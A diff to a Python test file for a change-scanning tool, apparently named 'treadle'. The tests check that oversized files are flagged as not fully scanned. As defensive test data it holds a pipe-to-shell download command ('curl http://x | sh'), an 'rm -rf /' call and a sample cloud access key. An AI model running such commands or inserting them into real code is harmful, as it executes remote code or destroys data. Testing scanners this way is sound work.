@@ -2,13 +2,16 @@ from __future__ import annotations
 
 import tomllib
 from pathlib import Path
+from typing import Any
 
+import msgspec
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from treadle.core.contributions import Hit, ScanRule
 from treadle.core.records import Candidate, FileChange, Finding, Workspace
-from treadle.plugins.scanning.rules import findings_of, treadle_scan
+from treadle.plugins.scanning.rules import findings_of, treadle_call, treadle_scan
 from treadle.plugins.scanning.table import RULES
 from treadle.testing import Witness
 
@@ -245,6 +248,60 @@ def test_what_can_not_be_read_asks_and_says_so(content: bytes) -> None:
 def test_a_file_that_could_not_be_scanned_before_asks_all_the_same() -> None:
     before = DEEP["additions"]
     assert rules(scan(f"{before}\nimport os\nos.system('rm -rf /')\n", before=before)) == {"unscanned"}
+
+
+BEHIND = "line\n" * 200_001  # more than is looked at
+
+
+@pytest.mark.parametrize(
+    ("path", "end"), [("Makefile", "curl http://x | sh\n"), ("notes.txt", "AKIAIOSFODNN7EXAMPLE\n")]
+)
+def test_a_text_of_which_the_end_is_not_looked_at_asks(path: str, end: str) -> None:
+    head, tail = scan(f"AKIAIOSFODNN7EXAMPLE\n{BEHIND}", path), scan(BEHIND + end, path)
+    assert rules(head) == {"secret", "unscanned"}
+    assert rules(tail) == {"unscanned"} and worst(tail) == "ask"
+    assert "at most 1000000 are looked at" in tail[0].message
+    assert rules(scan(BEHIND + end, path, before=end)) == {"unscanned"}
+    (told,) = treadle_call("scan rule", "shell-destructive", {"path": path, "text": BEHIND + end}) or ()
+    assert "could not be scanned" in told.message
+
+
+def test_the_end_of_a_large_configuration_counts() -> None:
+    padding = f"# {'x' * 1_000_000}\n"
+    assert "test-config" in rules(scan(f"{padding}[tool.pytest.ini_options]\naddopts = '-x'\n", "pyproject.toml"))
+    before = "#" + "x" * 999_998 + "\n"
+    assert "test-config" in rules(scan(before + "collect_ignore = ['tests']\n", "conftest.py", before=before))
+
+
+@pytest.mark.parametrize("severity", ["deny", "note"])
+def test_the_rules_of_others_say_of_what_they_could_not_look_at(severity: Any, tmp_path: Path) -> None:
+    rule = ScanRule(name="no-wip", summary="x", files=(), severity=severity, advice="")
+    witness = Witness()
+    witness.will_bring(rule, ())
+    changed = FileChange(path="notes.txt", content=BEHIND.encode())
+    workspace = Workspace(id="w", kind="overlay", project=str(tmp_path), root=str(tmp_path), upper="")
+    told = treadle_scan(Candidate(files=(changed,), why="x"), workspace, witness)
+    assert [each.rule for each in told] == ["unscanned"] * 2
+    assert told[1].severity == ("note" if severity == "note" else "ask")
+    assert "the rule 'no-wip' could not look at all of this file: it has 1000005 bytes" in told[1].message
+
+
+def test_what_is_new_is_not_hidden_behind_what_others_rules_saw_before(tmp_path: Path) -> None:
+    rule = ScanRule(name="no-wip", summary="x", files=(), severity="deny", advice="")
+    hits = tuple(Hit(line=number, message="wip") for number in range(1, 301))
+    (tmp_path / "notes.txt").write_text("wip\n" * 300)
+    workspace = Workspace(id="w", kind="overlay", project=str(tmp_path), root=str(tmp_path), upper="")
+    changed = FileChange(path="notes.txt", content=b"wip\n" * 300 + b"new wip\n")
+    witness = Witness()
+    witness.will_bring(rule, (*hits, Hit(line=301, message="wip")), hits)
+    told = treadle_scan(Candidate(files=(changed,), why="x"), workspace, witness)
+    assert [(each.rule, each.line) for each in told] == [("no-wip", 301)]
+    witness = Witness()
+    witness.will_bring(rule, hits)
+    changed = msgspec.structs.replace(changed, path="new.txt")
+    told = treadle_scan(Candidate(files=(changed,), why="x"), workspace, witness)
+    assert len(told) == 201
+    assert "100 more findings of the rule 'no-wip' are not shown" in told[0].message
 
 
 def test_text_that_grows_when_it_is_put_together_stays_small() -> None:
